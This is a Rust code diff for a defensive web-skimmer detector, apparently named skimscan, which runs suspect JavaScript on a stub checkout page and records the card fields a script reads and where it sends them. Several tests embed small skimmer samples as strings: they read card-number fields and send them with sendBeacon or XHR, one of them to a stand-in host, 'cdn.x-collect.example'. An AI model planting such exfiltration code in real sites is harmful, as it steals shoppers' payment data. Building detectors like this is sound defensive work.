@@ -23,19 +23,23 @@ use std::time::Duration;
 /// What the script did on the stub page.
 #[derive(Debug, Default, Deserialize)]
 pub struct Observed {
+    /// The page's origin on the stub page (`https://shop.example` when the real one is not
+    /// known): URLs on it are the page's own, written back relative.
+    #[serde(default)]
+    pub origin: String,
     /// (selector or field key, canary value answered)
     pub reads: Vec<(String, String)>,
     /// (how, URL, data)
     pub sends: Vec<(String, String, String)>,
 }
 
-/// The budgets of one run: shorter than a decoder plan's. A machine-obfuscated script gets 2 s
-/// (js-confuser's high preset needs ~0.3-1 s); a readable script that reads card fields,
+/// The budgets of one run. A machine-obfuscated script gets 3 s, 2.5 s of it for one step
+/// (a 1 MB js-confuser high build needs ~2 s, mostly its top level); a readable script that reads card fields,
 /// which the stub page only has to take to its send, gets 0.4 s: a library that spins on the
 /// stubs (knockout waited out 1.5 s here) costs no more than that.
 pub fn limits(obfuscated: bool) -> Limits {
     let (time, per_run) = if obfuscated {
-        (2_000, 1_500)
+        (3_000, 2_500)
     } else {
         (400, 300)
     };
@@ -63,12 +67,21 @@ pub fn worth_running(src: &str) -> bool {
     n >= 24 && n * 150 >= src.len()
 }
 
-/// Run `src` on the stub page and return what it read and sent.
-pub fn observe(src: &str, limits: Limits) -> Result<Observed, SandboxError> {
+/// Run `src` on the stub page and return what it read and sent. `page_url`: the address of
+/// the page the script was found on, when it is a web address.
+pub fn observe(
+    src: &str,
+    limits: Limits,
+    page_url: Option<&str>,
+) -> Result<Observed, SandboxError> {
     let mut sandbox = Sandbox::new(limits)?;
     let own = serde_json::to_string(src).unwrap_or_else(|_| "\"\"".into());
     sandbox.run(&format!("{}({own});", include_str!("self_document.js")))?;
-    if let Outcome::Threw = sandbox.run(&format!("{}();", include_str!("emulate.js")))? {
+    let page = page_url
+        .filter(|u| u.starts_with("https://") || u.starts_with("http://"))
+        .and_then(|u| serde_json::to_string(u).ok())
+        .unwrap_or_else(|| "null".into());
+    if let Outcome::Threw = sandbox.run(&format!("{}({page});", include_str!("emulate.js")))? {
         return Err(SandboxError::Start("the stub page failed".into()));
     }
     // The script's own exceptions end its top level, as in a browser; what it set up before
@@ -144,6 +157,8 @@ pub fn layer(observed: &Observed, flows_only: bool) -> Option<String> {
         if url.trim().is_empty() || lines.len() >= 24 {
             continue;
         }
+        let url = own_relative(url, &observed.origin);
+        let url = url.as_str();
         let fields = fields_in(&format!("{url}\n{data}"), &observed.reads);
         if flows_only && fields.is_empty() {
             continue;
@@ -162,6 +177,27 @@ pub fn layer(observed: &Observed, flows_only: bool) -> Option<String> {
         "// skimscan: what the script did when it ran in the sealed interpreter on a stub page\n{}\n",
         lines.join("\n")
     ))
+}
+
+/// A URL on the stub page's own origin, relative (`/api/pay`): the static analysis then
+/// judges it the page's own, as the browser would be sending it to the page's host.
+fn own_relative(url: &str, origin: &str) -> String {
+    if origin.is_empty() {
+        return url.to_string();
+    }
+    let host = origin.split_once("//").map(|(_, h)| h).unwrap_or(origin);
+    for prefix in [origin.to_string(), format!("//{host}")] {
+        if let Some(rest) = url.strip_prefix(&prefix)
+            && (rest.is_empty() || rest.starts_with(['/', '?', '#']))
+        {
+            return if rest.is_empty() {
+                "/".into()
+            } else {
+                rest.to_string()
+            };
+        }
+    }
+    url.to_string()
 }
 
 /// One send as a statement: the fields whose canaries it carried, sent the same way.
@@ -381,6 +417,7 @@ mod tests {
     #[test]
     fn a_send_becomes_a_plain_statement() {
         let obs = Observed {
+            origin: String::new(),
             reads: reads(),
             sends: vec![
                 (
@@ -431,13 +468,39 @@ mod tests {
             new WebSocket("ws" + u.slice(4)).send(n); document.write('<img src="' + u + '">');
             location.href = u; window.open(u); import(u).catch(function () {{}});"##
         );
-        let obs = observe(&src, limits(true)).unwrap();
+        let obs = observe(&src, limits(true), None).unwrap();
         assert!(obs.sends.len() >= 7, "{:?}", obs.sends);
         std::thread::sleep(std::time::Duration::from_millis(100));
         assert!(
             matches!(listener.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
             "a connection reached the loopback listener"
         );
+    }
+
+    /// The page's own address is the stub's location (an EC-CUBE skimmer waits for
+    /// `/shopping`), and a send to the page's own origin is written back relative.
+    #[test]
+    fn the_page_address_is_the_stub_location() {
+        let src = r#"
+            if (location.href.indexOf('/shopping') > 0) {
+              var n = document.querySelector('#card_no').value;
+              navigator.sendBeacon(location.origin + '/api/pay', n);
+              navigator.sendBeacon('https://cdn.x-collect.example/k', n);
+            }
+        "#;
+        let page = "https://www.realshop.example/shopping/payment";
+        let obs = observe(src, limits(false), Some(page)).unwrap();
+        assert_eq!(obs.origin, "https://www.realshop.example");
+        let code = layer(&obs, true).unwrap();
+        assert!(code.contains("navigator.sendBeacon(\"/api/pay\""), "{code}");
+        assert!(
+            code.contains("\"https://cdn.x-collect.example/k\""),
+            "{code}"
+        );
+        // Not a web address: the stub's own checkout, whose origin is written back relative too.
+        let obs = observe(src, limits(false), Some("site/index.html")).unwrap();
+        let code = layer(&obs, true).unwrap();
+        assert!(code.contains("navigator.sendBeacon(\"/api/pay\""), "{code}");
     }
 
     #[test]
@@ -450,11 +513,10 @@ mod tests {
               x.send('d=' + btoa(n));
             });
         "#;
-        let obs = observe(src, limits(true)).unwrap();
-        assert_eq!(
-            obs.reads,
-            vec![("#card-number".to_string(), PAN.to_string())]
-        );
+        let obs = observe(src, limits(true), None).unwrap();
+        // The field, then the shop's own checkout request reading the standard ones.
+        assert_eq!(obs.reads[0], ("#card-number".to_string(), PAN.to_string()));
+        assert!(obs.reads.iter().all(|(k, _)| k.starts_with('#')));
         assert_eq!(obs.sends.len(), 1);
         let code = layer(&obs, false).unwrap();
         assert!(
